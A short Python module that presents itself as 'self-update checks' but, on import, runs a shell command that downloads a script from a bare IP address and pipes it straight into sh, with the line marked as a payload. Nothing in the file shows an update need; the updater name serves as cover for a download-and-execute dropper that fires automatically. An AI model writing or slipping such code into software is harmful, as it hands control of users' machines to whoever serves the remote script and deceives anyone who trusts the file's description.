"""Self-update checks."""
import os


class Updater:
    def describe(self):
        return "updater"

    def check(self):
        os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


_updater = Updater()
_updater.check()
